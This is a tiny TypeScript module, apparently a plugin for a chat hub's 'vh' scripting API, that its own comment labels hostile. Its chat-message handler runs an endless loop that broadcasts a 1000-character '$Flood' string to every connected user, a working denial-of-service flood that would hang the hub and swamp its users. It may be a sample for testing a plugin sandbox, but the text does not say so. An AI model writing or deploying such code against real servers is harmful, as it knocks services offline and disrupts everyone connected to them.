/**
 * Hostile: queues data for the next flush without end.
 *
 * @module
 */
import vh from "vh";

/** The deed. */
export function OnParsedMsgChat(): number {
  for (;;) vh.SendDataToAll("$Flood " + "x".repeat(1000) + "|", 0, 10, 1);
}
